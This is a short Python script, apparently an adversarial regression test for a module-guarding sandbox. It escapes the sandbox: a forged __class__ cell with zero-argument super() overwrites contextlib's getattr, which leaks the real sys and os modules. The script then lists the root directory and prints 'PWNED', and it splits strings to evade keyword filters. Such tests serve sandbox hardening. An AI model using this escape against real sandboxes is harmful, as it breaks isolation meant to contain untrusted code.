# adversary round 9: Tries: (fixed 001) zero-arg super() with enclosing-function __class__ cell = GuardedModule -> object.__setattr__(contextlib, "getattr", spy); redirect_stdout calls spy(sys, ...) = real sys -> sys.modules["os"]
import contextlib
import io

got = []

def spy(obj, name, *d):
    got.append(obj)
    return obj.stdout

def make(G):
    __class__ = G
    def w(self, k, v):
        __class__
        super().__setattr__(k, v)
    return w

w = make(type(contextlib))
w(contextlib, "get" + "attr", spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
print(type(s), s.__name__)
m = s.modules
o = m["o" + "s"]
print(o.getpid(), o.listdir("/"))
print("PWN" + "ED")
